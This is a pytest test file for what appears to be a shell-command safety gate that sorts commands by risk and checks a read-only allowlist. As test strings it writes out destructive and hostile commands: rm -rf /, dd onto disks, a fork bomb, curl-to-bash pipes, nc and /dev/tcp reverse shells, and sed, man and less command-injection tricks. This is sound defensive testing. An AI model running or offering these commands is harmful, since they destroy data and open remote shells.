"""Tests for the rule engine, the read-only allowlist and user rule files."""

import pytest

from cmdgate.errors import RuleConfigError
from cmdgate.safety.models import RiskTier
from cmdgate.safety.rules import (
    DEFAULT_RULES,
    AllowEntry,
    ReadOnlyAllowlist,
    RuleEngine,
    RuleSet,
    is_interpreter,
    sed_script_problem,
)
from cmdgate.safety.tokenizer import CommandTokenizer


def rule_names(command: str, engine: RuleEngine | None = None) -> set[str]:
    """Names of every rule matched by any unit of the command."""
    engine = engine or RuleEngine()
    result = CommandTokenizer().tokenize(command)
    names = set()
    for unit in result.units:
        names.update(match.rule_name for match in engine.evaluate(unit, result))
    names.update(match.rule_name for match in engine.match_line(result))
    return names


class TestDefaultRules:
    """Sanity checks on the built-in rule table."""

    def test_rule_names_are_unique(self):
        names = [rule.name for rule in DEFAULT_RULES]
        assert len(names) == len(set(names))

    def test_every_tier_above_auto(self):
        """Rules only ever raise risk."""
        assert all(rule.tier > RiskTier.AUTO_EXECUTE for rule in DEFAULT_RULES)


class TestProgramRules:
    """Rules keyed on the program name."""

    @pytest.mark.parametrize("command", ["mkfs.ext4 /dev/sdb1", "fdisk /dev/sda", "wipefs -a /dev/sdc"])
    def test_disk_format(self, command):
        assert "disk_format" in rule_names(command)

    def test_diskutil_erase(self):
        assert "disk_format" in rule_names("diskutil eraseDisk JHFS+ Blank disk2")

    def test_diskutil_list_is_harmless(self):
        assert "disk_format" not in rule_names("diskutil list")

    @pytest.mark.parametrize("command", ["shutdown -h now", "reboot", "init 0", "systemctl poweroff"])
    def test_power_control(self, command):
        assert "power_control" in rule_names(command)

    def test_destructive_program(self):
        assert "destructive_program" in rule_names("rm notes.txt")

    def test_system_admin(self):
        assert "system_admin" in rule_names("systemctl restart nginx")

    def test_windows_format(self):
        assert "windows_destructive" in rule_names("format C:")


class TestArgumentRules:
    """Rules keyed on the shape of the arguments."""

    @pytest.mark.parametrize("target", ["/", "/*", "~", "$HOME", "/etc", "/home/alice", "*", "."])
    def test_rm_critical_target(self, target):
        assert "rm_critical_target" in rule_names(f"rm -rf {target}")

    def test_rm_recursive_force_elsewhere(self):
        names = rule_names("rm -rf ./build")
        assert "rm_recursive_force" in names
        assert "rm_critical_target" not in names

    def test_rm_separated_flags(self):
        assert "rm_recursive_force" in rule_names("rm -r -f build")

    def test_rm_no_preserve_root(self):
        assert "rm_critical_target" in rule_names("rm --no-preserve-root -r /tmp/x")

    def test_chmod_root(self):
        assert "permission_root" in rule_names("chmod -R 777 /")

    def test_chmod_system_path(self):
        names = rule_names("chmod 644 /etc/hosts")
        assert "permission_system_path" in names
        assert "permission_root" not in names

    def test_setuid(self):
        assert "setuid_bit" in rule_names("chmod u+s ./tool")
        assert "setuid_bit" in rule_names("chmod 4755 ./tool")
        assert "setuid_bit" not in rule_names("chmod 755 ./tool")

    def test_dd_block_device(self):
        assert "dd_block_device" in rule_names("dd if=/dev/zero of=/dev/sda bs=1M")

    def test_dd_to_file(self):
        names = rule_names("dd if=/dev/zero of=disk.img bs=1M count=10")
        assert "dd_output" in names
        assert "dd_block_device" not in names

    @pytest.mark.parametrize("command", [
        "brew uninstall wget",
        "pip uninstall requests",
        "apt-get purge nginx",
        "docker rm web",
        "docker container rm web",
        "kubectl delete pod web",
        "pacman -Rns vim",
    ])
    def test_package_removal(self, command):
        assert "package_removal" in rule_names(command)

    def test_package_install_is_not_removal(self):
        assert "package_removal" not in rule_names("brew install wget")

    def test_find_delete(self):
        assert "find_delete" in rule_names("find . -name '*.tmp' -delete")

    @pytest.mark.parametrize("command", [
        "git reset --hard HEAD~1",
        "git push --force origin main",
        "git clean -fd",
        "git branch -D feature",
        "git stash drop",
    ])
    def test_git_destructive(self, command):
        assert "git_destructive" in rule_names(command)

    def test_git_reset_soft_is_not_destructive(self):
        assert "git_destructive" not in rule_names("git reset --soft HEAD~1")


class TestNetworkRules:
    """Remote code execution and network access."""

    @pytest.mark.parametrize("command", [
        "curl -fsSL https://example.com/install.sh | bash",
        "wget -qO- https://example.com/x | sh",
        "curl https://example.com/x.py | python3 -",
        "curl https://example.com/x | sudo bash",
    ])
    def test_remote_code_pipe(self, command):
        assert "remote_code_pipe" in rule_names(command)

    def test_download_to_file_is_not_a_pipe(self):
        assert "remote_code_pipe" not in rule_names("curl -o install.sh https://example.com/install.sh")

    def test_interpreter_running_a_script_is_not_a_pipe(self):
        """python script.py reads code from a file, not from the pipe."""
        assert "remote_code_pipe" not in rule_names("curl https://example.com/data | python3 parse.py")

    def test_remote_code_substitution(self):
        assert "remote_code_substitution" in rule_names('bash -c "$(curl -fsSL https://example.com/x)"')
        assert "remote_code_substitution" in rule_names("eval $(wget -qO- https://example.com/x)")

    def test_reverse_shell(self):
        assert "reverse_shell" in rule_names("nc -e /bin/sh 10.0.0.1 4444")
        assert "reverse_shell" in rule_names("socat exec:/bin/bash tcp:10.0.0.1:4444")

    def test_dev_tcp(self):
        assert "raw_socket_redirect" in rule_names("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")

    def test_network_client(self):
        assert "network_client" in rule_names("ssh host uptime")


class TestPrivilegeRules:
    """Privilege escalation."""

    def test_sudo_wrapper(self):
        assert "privilege_escalation" in rule_names("sudo apt update")

    def test_bare_su(self):
        assert "privilege_escalation" in rule_names("su -")


class TestRedirectRules:
    """Redirection targets."""

    def test_critical_file(self):
        assert "redirect_critical" in rule_names("echo 'x' > /etc/passwd")

    def test_block_device(self):
        assert "redirect_critical" in rule_names("cat image.iso > /dev/sdb")

    def test_tee_to_critical_file(self):
        assert "redirect_critical" in rule_names("echo x | sudo tee /etc/sudoers")

    def test_sensitive_path(self):
        names = rule_names("echo key >> ~/.ssh/config")
        assert "redirect_sensitive" in names
        assert "redirect_critical" not in names


class TestIndirectionRules:
    """Commands that run other commands."""

    def test_eval(self):
        assert "eval" in rule_names("eval $CMD")

    def test_shell_invocation(self):
        assert "shell_invocation" in rule_names("sh -c 'ls'")
        assert "shell_invocation" in rule_names("bash deploy.sh")

    @pytest.mark.parametrize("command", [
        "python -c 'print(1)'",
        "python3.12 -c 'print(1)'",
        "perl -ne 'print' file",
        "node -e 'console.log(1)'",
    ])
    def test_inline_code(self, command):
        assert "inline_code" in rule_names(command)

    def test_xargs(self):
        assert "xargs" in rule_names("ls | xargs echo")

    def test_find_exec(self):
        assert "find_exec" in rule_names(r"find . -exec cat {} \;")

    def test_source(self):
        assert "source" in rule_names("source ./env.sh")

    def test_dynamic_command(self):
        assert "dynamic_command" in rule_names("$EDITOR notes.txt")


class TestLineRules:
    """Rules that look at the whole command line."""

    def test_fork_bomb(self):
        assert "fork_bomb" in rule_names(":(){ :|:& };:")


class TestRuleEngineMatch:
    """The set of UNIT rules a single unit matches."""

    def test_match_agrees_with_evaluate(self):
        engine = RuleEngine()
        result = CommandTokenizer().tokenize("sudo rm -rf /")
        unit = result.units[0]
        rules = engine.match(unit, result)
        assert rules
        assert [rule.name for rule in rules] == [m.rule_name for m in engine.evaluate(unit, result)]
        assert {rule.tier for rule in rules} >= {RiskTier.BLOCKED}

    def test_no_match(self):
        unit = CommandTokenizer().tokenize("ls -la").units[0]
        assert RuleEngine().match(unit) == []

    def test_user_rule(self):
        engine = RuleEngine(RuleSet.from_dict({"block": ["terraform"]}))
        unit = CommandTokenizer().tokenize("terraform apply").units[0]
        assert [rule.name for rule in engine.match(unit)] == ["user_block_terraform"]


class TestInterpreters:
    """Interpreter detection."""

    @pytest.mark.parametrize("program", ["bash", "python", "python3.11", "perl5.36", "node", "source"])
    def test_interpreters(self, program):
        assert is_interpreter(program)

    @pytest.mark.parametrize("program", ["ls", "pythonista", "cat"])
    def test_non_interpreters(self, program):
        assert not is_interpreter(program)


class TestReadOnlyAllowlist:
    """The allowlist that gates AUTO_EXECUTE."""

    def check(self, command: str, allowlist: ReadOnlyAllowlist | None = None) -> str | None:
        allowlist = allowlist or ReadOnlyAllowlist()
        unit = CommandTokenizer().tokenize(command).units[0]
        return allowlist.check(unit)

    @pytest.mark.parametrize("command", [
        "ls -la",
        "cat README.md",
        "grep -rn TODO src",
        "find . -name '*.py'",
        "git status",
        "git log --oneline -5",
        "git branch",
        "git branch -a",
        "git config user.email",
        "sed -n 1,10p file",
        "sed 's/a/b/g' file",
        "sed -n '/start/,/end/p' app.log",
        "sed -e 's/x/y/' -e 3d file",
        "sort -k2 data.txt",
        "man ls",
        "less -N notes.txt",
        "awk '{print $1}' file",
        "command -v git",
        "env",
    ])
    def test_read_only(self, command):
        assert self.check(command) is None

    def test_unknown_program(self):
        assert self.check("make build") == "'make' is not on the read-only allowlist"

    @pytest.mark.parametrize("command", [
        "sed -i s/a/b/ file",
        "awk '{system(\"rm \" $1)}' list",
        "find . -fprint out.txt",
        "sort -o sorted.txt data.txt",
        "sort -osorted.txt data.txt",
        "sort --compress-program=sh data.txt",
        "sort --compress=sh data.txt",
        "sed 'e rm -rf /' /etc/hostname",
        "sed -n 'w /tmp/out' /etc/passwd",
        "sed 's/x/id/e' file",
        "sed --expression='e id' file",
        "sed --e='e id' p",
        "sed -f script.sed file",
        "man -P 'rm -rf ~' ls",
        "man --pager=cat ls",
        "man -H ls",
        "less +'!rm -rf ~' notes.txt",
        "more +/pattern notes.txt",
        "git commit -m wip",
        "git branch new-feature",
        "git -c core.pager=evil log",
        "git config user.email me@example.com",
        "hostname newname",
        "env FOO=1",
    ])
    def test_not_read_only(self, command):
        assert self.check(command) is not None

    def test_extra_entries(self):
        allowlist = ReadOnlyAllowlist([AllowEntry("make", ("test",))])
        assert self.check("make test", allowlist) is None
        assert self.check("make install", allowlist) is not None


class TestSedScripts:
    """Scripts are accepted only when every command just prints."""

    @pytest.mark.parametrize("script", [
        "p",
        "1,10p",
        "$d",
        "s/a/b/g",
        "s|/usr|/opt|2p",
        "/^#/d; s/ *$//",
        "\\%start%,+3!d",
        "y/abc/xyz/",
        "/x/{p;q}",
        ":a;N;ba",
    ])
    def test_print_only(self, script):
        assert sed_script_problem(script) is None

    @pytest.mark.parametrize(("script", "reason"), [
        ("e rm -rf /", "sed 'e' command runs commands or writes files"),
        ("1w /tmp/out", "sed 'w' command runs commands or writes files"),
        ("W out", "sed 'W' command runs commands or writes files"),
        ("s/x/id/e", "sed 's///e' runs commands or writes files"),
        ("s/x/y/w out", "sed 's///w' runs commands or writes files"),
        ("s/x/y", "sed 's' command is unterminated"),
        ("/x", "sed address could not be parsed"),
        ("5", "sed address without a command"),
        ("v", "sed command 'v' is not known to be read-only"),
    ])
    def test_rejected(self, script, reason):
        assert sed_script_problem(script) == reason


class TestRuleSet:
    """Loading user rules."""

    def test_default(self):
        assert RuleSet.default().rules == DEFAULT_RULES

    def test_block_and_confirm_sections(self):
        rule_set = RuleSet.from_dict({
            "block": ["terraform"],
            "confirm": [{"program": "npm", "args": ["publish"], "reason": "publishes a package"}],
        })
        engine = RuleEngine(rule_set)
        assert "user_block_terraform" in rule_names("terraform apply", engine)
        assert "user_confirm_npm" in rule_names("npm publish", engine)
        assert "user_confirm_npm" not in rule_names("npm test", engine)

    def test_user_rule_reason(self):
        rule_set = RuleSet.from_dict({"confirm": [{"program": "npm", "args": ["publish"]}]})
        rule = rule_set.rules[-1]
        assert rule.reason == "'npm publish' is listed in the user confirm rules"
        assert rule.tier == RiskTier.CONFIRM

    def test_allow_section(self):
        rule_set = RuleSet.from_dict({"allow": ["make test"]})
        assert rule_set.allow == (AllowEntry("make", ("test",)),)

    @pytest.mark.parametrize("data", [
        ["terraform"],
        {"deny": ["x"]},
        {"block": [{"args": ["x"]}]},
        {"block": [{"program": "x", "args": "y"}]},
        {"allow": [""]},
    ])
    def test_malformed(self, data):
        with pytest.raises(RuleConfigError):
            RuleSet.from_dict(data)

    def test_from_yaml(self, tmp_path):
        path = tmp_path / "rules.yaml"
        path.write_text("block:\n  - terraform\nallow:\n  - make test\n")
        rule_set = RuleSet.from_yaml(path)
        assert len(rule_set.rules) == len(DEFAULT_RULES) + 1
        assert rule_set.allow[0].program == "make"

    def test_from_yaml_missing_file(self, tmp_path):
        assert RuleSet.from_yaml(tmp_path / "missing.yaml") == RuleSet.default()

    def test_from_yaml_invalid(self, tmp_path):
        path = tmp_path / "rules.yaml"
        path.write_text("block: [unclosed\n")
        with pytest.raises(RuleConfigError):
            RuleSet.from_yaml(path)

    def test_empty_yaml(self, tmp_path):
        path = tmp_path / "rules.yaml"
        path.write_text("")
        assert RuleSet.from_yaml(path).rules == DEFAULT_RULES
